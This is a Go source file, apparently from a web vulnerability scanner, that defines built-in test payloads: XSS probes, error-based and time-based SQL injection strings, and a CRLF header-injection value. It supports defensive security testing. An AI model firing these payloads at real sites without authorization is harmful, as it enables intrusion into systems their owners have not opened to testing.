package payloads

import "github.com/wvscan/wvscan/pkg/finding"

// Builtin returns the built-in payload set. It ships enough coverage to run
// a useful scan with no payload files configured; file-backed and generative
// providers extend it.
func Builtin() []Payload {
	var list []Payload

	for _, v := range builtinXSS {
		list = append(list, Payload{Payload: v, Category: finding.CategoryXSS})
	}
	for _, v := range builtinSQLiError {
		list = append(list, Payload{Payload: v, Category: finding.CategorySQLi})
	}
	for _, p := range builtinSQLiTime {
		list = append(list, Payload{
			Payload:      p.value,
			Category:     finding.CategorySQLi,
			SleepSeconds: p.sleep,
		})
	}
	for _, v := range builtinHeader {
		list = append(list, Payload{Payload: v, Category: finding.CategoryHeader})
	}
	return list
}

// builtinXSS covers HTML, attribute-breakout, and protocol contexts.
var builtinXSS = []string{
	`<script>alert(1)</script>`,
	`<script>alert('XSS')</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="alert(1)">`,
	`<svg onload=alert(1)>`,
	`<svg/onload=alert(1)>`,
	`<body onload=alert(1)>`,
	`<input onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video><source onerror=alert(1)>`,
	`<iframe src="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">click</a>`,
	`<div onmouseover=alert(1)>hover</div>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`" onmouseover="alert(1)`,
	`' onmouseover='alert(1)`,
	`" onfocus="alert(1)" autofocus="`,
	`';alert(1)//`,
	`";alert(1)//`,
	`</script><script>alert(1)</script>`,
	`javascript:alert(1)`,
	`<ScRiPt>alert(1)</sCrIpT>`,
	`<svg><animate onbegin=alert(1)>`,
	`<marquee onstart=alert(1)>`,
}

// builtinSQLiError provokes database error signatures.
var builtinSQLiError = []string{
	`'`,
	`"`,
	`' OR '1'='1`,
	`" OR "1"="1`,
	`1' OR '1'='1' --`,
	`' OR 1=1--`,
	`') OR ('1'='1`,
	`1' ORDER BY 1--`,
	`1' ORDER BY 10--`,
	`' UNION SELECT NULL--`,
	`' AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))--`,
	`' AND UPDATEXML(1,CONCAT(0x7e,VERSION()),1)--`,
	`' AND CAST((SELECT version()) AS int)--`,
	`' AND 1=CONVERT(int,(SELECT @@version))--`,
	`' AND 1=CAST(SQLITE_VERSION() AS int)--`,
}

// builtinSQLiTime asks the database to sleep; the classifier compares the
// response time against a baseline.
var builtinSQLiTime = []struct {
	value string
	sleep int
}{
	{`' AND SLEEP(5)--`, 5},
	{`' AND IF(1=1,SLEEP(5),0)--`, 5},
	{`' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--`, 5},
	{`' AND pg_sleep(5)--`, 5},
	{`';WAITFOR DELAY '0:0:5'--`, 5},
	{`' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',5)--`, 5},
}

// builtinHeader feeds header-location targets. Header checks are mostly
// passive, but injected values still exercise reflective header handling.
var builtinHeader = []string{
	`wvscan-probe`,
	`"><script>alert(1)</script>`,
	`127.0.0.1`,
	`%0d%0aSet-Cookie:%20injected=1`,
}
